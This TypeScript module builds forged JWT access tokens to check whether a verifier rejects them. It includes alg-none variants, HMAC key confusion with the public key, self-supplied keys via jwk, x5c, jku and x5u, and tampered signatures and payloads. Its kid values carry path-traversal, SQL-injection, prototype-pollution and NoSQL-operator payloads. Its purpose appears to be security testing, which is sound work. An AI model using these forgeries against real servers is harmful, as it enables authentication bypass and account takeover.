/** Forgeries of an access token that is a JWT: each differs from a valid one in one respect, and none can be told from it without verifying. */

import { createPublicKey, type JsonWebKey } from 'node:crypto';
import { CompactEncrypt, importJWK, type JWK } from 'jose';
import { selfSignedCertificate } from './certificate.ts';
import {
  buildJwt,
  ecdsa,
  eddsa,
  encodeJson,
  type ForgerKeys,
  hmac,
  type ParsedJwt,
  rsa,
  rsaPss,
  type Signer,
  unsigned,
} from './jwt.ts';

export interface Forgery {
  /** Completes "a JWT ...". */
  readonly what: string;
  readonly token: string;
}

type Header = Readonly<Record<string, unknown>>;

/** Unsigned tokens (RFC 8725 2.1; CVE-2015-9235, CVE-2020-28042). */
export function unsignedForgeries({ header, claims, parts }: ParsedJwt): Forgery[] {
  const none = (alg: unknown, changes: Header = {}): string =>
    buildJwt({ ...header, alg, ...changes }, claims, unsigned);
  return [
    { what: 'with alg none', token: none('none') },
    { what: 'with alg None', token: none('None') },
    { what: 'with alg NONE', token: none('NONE') },
    { what: 'with alg nOnE', token: none('nOnE') },
    {
      what: 'with alg none and no kid',
      token: none('none', { kid: undefined }),
    },
    {
      what: 'with alg none and the signature of the valid token',
      token: `${none('none')}${parts[2]}`,
    },
    { what: 'with alg none and two parts', token: none('none').slice(0, -1) },
    {
      what: 'with alg none, signed by HMAC with an empty secret',
      token: buildJwt({ ...header, alg: 'none' }, claims, hmac('')),
    },
    { what: 'with an empty alg and no signature', token: none('') },
    { what: 'without alg and without signature', token: none(undefined) },
    { what: 'with alg null and no signature', token: none(null) },
  ];
}

/** Values known to anybody that a server may take for an HMAC secret: forms of its public key, and the usual careless ones. */
export function hmacSecrets(
  publicJwk: JsonWebKey | undefined,
  known: readonly { readonly what: string; readonly value: string }[],
): { readonly what: string; readonly value: string | Uint8Array }[] {
  const careless = [{ what: 'an empty secret', value: '' }, { what: 'the secret "secret"', value: 'secret' }, ...known];
  if (publicJwk === undefined) return careless;
  const key = createPublicKey({ key: publicJwk, format: 'jwk' });
  const pem = (type: 'spki' | 'pkcs1'): string => key.export({ type, format: 'pem' }).toString();
  const { n = '', e, kty } = publicJwk;
  return [
    { what: 'the public key as PEM (SPKI)', value: pem('spki') },
    {
      what: 'the public key as PEM (SPKI) without its last line break',
      value: pem('spki').trimEnd(),
    },
    { what: 'the public key as PEM (PKCS #1)', value: pem('pkcs1') },
    {
      what: 'the public key as PEM (PKCS #1) without its last line break',
      value: pem('pkcs1').trimEnd(),
    },
    {
      what: 'the public key as DER (SPKI)',
      value: key.export({ type: 'spki', format: 'der' }),
    },
    {
      what: 'the public key as DER (PKCS #1)',
      value: key.export({ type: 'pkcs1', format: 'der' }),
    },
    {
      what: 'the public key as base64 of its SPKI',
      value: key.export({ type: 'spki', format: 'der' }).toString('base64'),
    },
    { what: 'the published JWK as JSON', value: JSON.stringify(publicJwk) },
    {
      what: 'the JWK as JSON of its required members',
      value: JSON.stringify({ e, kty, n }),
    },
    { what: 'the modulus as base64url', value: n },
    { what: 'the modulus as octets', value: Buffer.from(n, 'base64url') },
    ...careless,
  ];
}

/** HMAC where the server expects RSA (RFC 8725 2.1; CVE-2015-9235, CVE-2017-11424, CVE-2022-29217). */
export function hmacForgeries({ header, claims }: ParsedJwt, secrets: ReturnType<typeof hmacSecrets>): Forgery[] {
  const [first] = secrets;
  const others =
    first === undefined
      ? []
      : ([384, 512] as const).map((bits) => ({
          what: `with alg HS${bits} and ${first.what} as secret`,
          token: buildJwt({ ...header, alg: `HS${bits}` }, claims, hmac(first.value, bits)),
        }));
  return [
    ...secrets.map(({ what, value }) => ({
      what: `with alg HS256 and ${what} as secret`,
      token: buildJwt({ ...header, alg: 'HS256' }, claims, hmac(value)),
    })),
    ...others,
    ...secrets.slice(0, 1).map(({ what, value }) => ({
      what: `with alg RS256 in its header, signed by HMAC with ${what}`,
      token: buildJwt(header, claims, hmac(value)),
    })),
  ];
}

/** Rightly signed, with a key that is not the server's (CVE-2022-39366: the signature is not verified at all; CVE-2022-21449: zeros pass). */
export function foreignKeyForgeries({ header, claims }: ParsedJwt, keys: ForgerKeys): Forgery[] {
  const by = (changes: Header, signer: Signer): string => buildJwt({ ...header, ...changes }, claims, signer);
  const own = rsa(keys.rsa.privateKey);
  return [
    {
      what: 'signed by another RSA key under the same kid',
      token: by({}, own),
    },
    {
      what: 'signed by another RSA key without kid',
      token: by({ kid: undefined }, own),
    },
    {
      what: 'signed by another RSA key under an unknown kid',
      token: by({ kid: 'no-such-key' }, own),
    },
    {
      what: 'with alg RS384 by another key',
      token: by({ alg: 'RS384' }, rsa(keys.rsa.privateKey, 384)),
    },
    {
      what: 'with alg RS512 by another key',
      token: by({ alg: 'RS512' }, rsa(keys.rsa.privateKey, 512)),
    },
    {
      what: 'with alg PS256 by another key',
      token: by({ alg: 'PS256' }, rsaPss(keys.rsa.privateKey)),
    },
    {
      what: 'with alg ES256 by another key',
      token: by({ alg: 'ES256' }, ecdsa(keys.ec.privateKey)),
    },
    {
      what: 'with alg EdDSA by another key',
      token: by({ alg: 'EdDSA' }, eddsa(keys.ed25519.privateKey)),
    },
    {
      what: 'with alg ES256 and a signature of zeros',
      token: by({ alg: 'ES256' }, () => new Uint8Array(64)),
    },
    {
      what: 'with an unknown alg, signed by another RSA key',
      token: by({ alg: 'XX256' }, own),
    },
    { what: 'with alg rs256 by another key', token: by({ alg: 'rs256' }, own) },
    {
      what: 'of another type, signed by another RSA key',
      token: by({ typ: 'JWT', cty: 'JWT' }, own),
    },
  ];
}

/** Tokens that bring their own key (RFC 7515 10.3, RFC 8725 3.10; CVE-2018-0114). `hosted` is a URL where the forger's key set and certificate are. */
export function ownKeyForgeries({ header, claims }: ParsedJwt, keys: ForgerKeys): Forgery[] {
  const { privateKey, publicKey, jwk } = keys.rsa;
  const signer = rsa(privateKey);
  const by = (changes: Header): string => buildJwt({ ...header, ...changes }, claims, signer);
  const certificate = selfSignedCertificate(privateKey, publicKey, 'auth.example.com');
  const pem = `-----BEGIN CERTIFICATE-----\n${certificate.toString('base64').replace(/.{64}/g, '$&\n')}\n-----END CERTIFICATE-----\n`;
  const named = (kid: unknown): JsonWebKey => ({
    ...jwk,
    ...(typeof kid === 'string' ? { kid } : {}),
    alg: 'RS256',
    use: 'sig',
  });
  const set = (kid: unknown): string => JSON.stringify({ keys: [named(kid)] });
  const dataUrl = (type: string, text: string): string => `data:${type};base64,${Buffer.from(text).toString('base64')}`;
  const forger = { kid: 'forger' };
  return [
    {
      what: 'with its own key in jwk, under the same kid',
      token: by({ jwk: named(header.kid) }),
    },
    {
      what: 'with its own key in jwk, under another kid',
      token: by({ ...forger, jwk: named('forger') }),
    },
    {
      what: 'with its own key in jwk, without kid',
      token: by({ kid: undefined, jwk }),
    },
    {
      what: 'with its own certificate in x5c',
      token: by({ x5c: [certificate.toString('base64')] }),
    },
    {
      what: 'with its own certificate in x5c, without kid',
      token: by({ kid: undefined, x5c: [certificate.toString('base64')] }),
    },
    {
      what: 'with a jku of its own key set as a data URL',
      token: by({ jku: dataUrl('application/json', set(header.kid)) }),
    },
    {
      what: 'with an x5u of its own certificate as a data URL',
      token: by({ x5u: dataUrl('application/x-pem-file', pem) }),
    },
  ];
}

/** Tokens that name where the forger's keys are served (RFC 8725 3.10). */
export function hostedKeyForgeries(
  { header, claims }: ParsedJwt,
  keys: ForgerKeys,
  { jku, x5u }: { readonly jku: string; readonly x5u: string },
): Forgery[] {
  const by = (changes: Header): string => buildJwt({ ...header, ...changes }, claims, rsa(keys.rsa.privateKey));
  return [
    { what: 'with a jku of its own key set', token: by({ kid: 'forger', jku }) },
    { what: 'with an x5u of its own certificate', token: by({ kid: undefined, x5u }) },
  ];
}

/** What the forger serves under `jku` and `x5u`. */
export function hostedKeys(keys: ForgerKeys): {
  readonly jwks: string;
  readonly pem: string;
} {
  const certificate = selfSignedCertificate(keys.rsa.privateKey, keys.rsa.publicKey, 'auth.example.com');
  return {
    jwks: JSON.stringify({
      keys: [{ ...keys.rsa.jwk, kid: 'forger', alg: 'RS256', use: 'sig' }],
    }),
    pem: `-----BEGIN CERTIFICATE-----\n${certificate.toString('base64')}\n-----END CERTIFICATE-----\n`,
  };
}

/** A kid that chooses the key by its text: file, database, prototype (RFC 8725 3.10). */
export function keyIdForgeries({ header, claims }: ParsedJwt, keys: ForgerKeys): Forgery[] {
  const symmetric = (kid: unknown, secret: string): string =>
    buildJwt({ ...header, alg: 'HS256', kid }, claims, hmac(secret));
  const asymmetric = (kid: unknown): string => buildJwt({ ...header, kid }, claims, rsa(keys.rsa.privateKey));
  return [
    {
      what: 'with a kid of /dev/null and an empty HMAC secret',
      token: symmetric('/dev/null', ''),
    },
    {
      what: 'with a kid that climbs to /dev/null and an empty HMAC secret',
      token: symmetric('../../../../../../../../dev/null', ''),
    },
    {
      what: 'with a kid that selects a constant as the key',
      token: symmetric("x' UNION SELECT 'forged'-- ", 'forged'),
    },
    { what: 'with an empty kid', token: asymmetric('') },
    { what: 'with the kid null', token: asymmetric(null) },
    { what: 'with the kid __proto__', token: asymmetric('__proto__') },
    { what: 'with the kid constructor', token: asymmetric('constructor') },
    { what: 'with a kid that is a number', token: asymmetric(0) },
    { what: 'with a kid that is an object', token: asymmetric({ $ne: '' }) },
    {
      what: 'with a kid that holds NUL',
      token: asymmetric(`${typeof header.kid === 'string' ? header.kid : 'key'}\u0000`),
    },
  ];
}

const flip = (bytes: Buffer, index: number, mask: number): Buffer =>
  Buffer.from(bytes.map((byte, at) => (at === index ? byte ^ mask : byte)));

/** The valid header and payload with a signature that is none of theirs. Only octets are changed: other spellings of the same octets are no forgery. */
export function signatureForgeries({ parts, signature }: ParsedJwt, other?: ParsedJwt): Forgery[] {
  const input = `${parts[0]}.${parts[1]}`;
  const withSignature = (bytes: Uint8Array): string => `${input}.${Buffer.from(bytes).toString('base64url')}`;
  const { length } = signature;
  const half = Math.floor(length / 2);
  return [
    { what: 'without its signature', token: `${input}.` },
    { what: 'without its third part', token: input },
    {
      what: 'with the first half of its signature',
      token: withSignature(signature.subarray(0, half)),
    },
    {
      what: 'without the last octet of its signature',
      token: withSignature(signature.subarray(0, -1)),
    },
    {
      what: 'with one octet more after its signature',
      token: withSignature(Buffer.concat([signature, Buffer.from([0])])),
    },
    {
      what: 'with the first bit of its signature changed',
      token: withSignature(flip(signature, 0, 0x80)),
    },
    {
      what: 'with a bit in the middle of its signature changed',
      token: withSignature(flip(signature, half, 0x01)),
    },
    {
      what: 'with a bit in the last octet of its signature changed',
      token: withSignature(flip(signature, length - 1, 0x10)),
    },
    {
      what: 'with zeros after the first eight octets of its signature',
      token: withSignature(Buffer.concat([signature.subarray(0, 8), Buffer.alloc(Math.max(0, length - 8))])),
    },
    {
      what: 'with a signature of zeros',
      token: withSignature(Buffer.alloc(length)),
    },
    {
      what: 'with one octet for a signature',
      token: withSignature(Buffer.from([0])),
    },
    {
      what: 'with its signature twice',
      token: withSignature(Buffer.concat([signature, signature])),
    },
    ...(other === undefined || other.parts[2] === parts[2]
      ? []
      : [
          {
            what: 'with the signature of another valid token',
            token: `${input}.${other.parts[2]}`,
          },
        ]),
  ];
}

/** What stands in for a claim's value: that of another token where it differs, else a changed one. */
function changedValue(name: string, value: unknown, other: unknown): unknown {
  if (typeof value === 'number')
    return name === 'iat' || name === 'nbf' || name === 'auth_time' ? value - 60 : value + 365 * 86_400;
  if (other !== undefined && JSON.stringify(other) !== JSON.stringify(value)) return other;
  if (typeof value === 'string') return `${value}2`;
  if (typeof value === 'boolean') return !value;
  if (Array.isArray(value)) return [...value, 'admin'];
  return 'changed';
}

/** The valid signature over another payload or header than the one that was signed. */
export function payloadForgeries({ header, claims, parts }: ParsedJwt, other?: ParsedJwt): Forgery[] {
  const withClaims = (changed: unknown): string => `${parts[0]}.${encodeJson(changed)}.${parts[2]}`;
  const changes = Object.entries(claims).map(([name, value]) => ({
    what: `with its claim ${name} changed`,
    token: withClaims({
      ...claims,
      [name]: changedValue(name, value, other?.claims[name]),
    }),
  }));
  const without = Object.keys(claims)
    .filter((name) => name === 'exp' || name === 'nbf')
    .map((name) => ({
      what: `without its claim ${name}`,
      token: withClaims({ ...claims, [name]: undefined }),
    }));
  return [
    ...changes,
    ...without,
    {
      what: 'with a claim added',
      token: withClaims({ ...claims, role: 'admin' }),
    },
    {
      what: 'with its payload written in another way',
      token: `${parts[0]}.${Buffer.from(JSON.stringify(claims, null, 1)).toString('base64url')}.${parts[2]}`,
    },
    {
      what: 'with a member added to its header',
      token: `${encodeJson({ ...header, x: 1 })}.${parts[1]}.${parts[2]}`,
    },
    ...(other === undefined || other.parts[1] === parts[1]
      ? []
      : [
          {
            what: 'with the payload of another valid token',
            token: `${parts[0]}.${other.parts[1]}.${parts[2]}`,
          },
        ]),
  ];
}

/** Other shapes than three parts (RFC 7515 7.1, RFC 7519 1). */
export function serializationForgeries({ header, claims, parts }: ParsedJwt): Forgery[] {
  const [first, second, third] = parts;
  const none = encodeJson({ ...header, alg: 'none' });
  return [
    {
      what: 'with a fourth part',
      token: `${first}.${second}.${third}.${third}`,
    },
    {
      what: 'with two parts more',
      token: `${first}.${second}.${third}.${second}.${third}`,
    },
    { what: 'with its payload taken out', token: `${first}..${third}` },
    { what: 'with its header taken out', token: `.${second}.${third}` },
    { what: 'of its payload alone', token: second },
    {
      what: 'as JSON serialization without signatures',
      token: Buffer.from(JSON.stringify({ payload: second, signatures: [] })).toString('base64url'),
    },
    {
      what: 'as JSON serialization with an unprotected header of alg none',
      token: Buffer.from(
        JSON.stringify({
          payload: second,
          header: { alg: 'none' },
          signature: '',
        }),
      ).toString('base64url'),
    },
    {
      what: 'inside an unsigned one',
      token: `${none}.${Buffer.from(parts.join('.')).toString('base64url')}.`,
    },
    { what: 'as the bare claims in base64url', token: encodeJson(claims) },
  ];
}

/** Encrypted with the server's public key, which anybody can do (RFC 8725 2.1; CVE-2023-51774, CVE-2026-29000). */
export async function encryptedForgeries({ header, claims }: ParsedJwt, publicJwk: JsonWebKey): Promise<Forgery[]> {
  const { kty, n, e } = publicJwk;
  const key = await importJWK({ kty, n, e } as JWK, 'RSA-OAEP-256');
  const kid = typeof header.kid === 'string' ? { kid: header.kid } : {};
  const encrypt = (text: string, cty?: string): Promise<string> =>
    new CompactEncrypt(Buffer.from(text, 'utf8'))
      .setProtectedHeader({
        alg: 'RSA-OAEP-256',
        enc: 'A256GCM',
        ...kid,
        ...(cty === undefined ? {} : { cty }),
      })
      .encrypt(key);
  return [
    {
      what: 'encrypted with the public key, not signed',
      token: await encrypt(JSON.stringify(claims)),
    },
    {
      what: 'of alg none, encrypted with the public key',
      token: await encrypt(buildJwt({ ...header, alg: 'none' }, claims, unsigned), 'JWT'),
    },
  ];
}
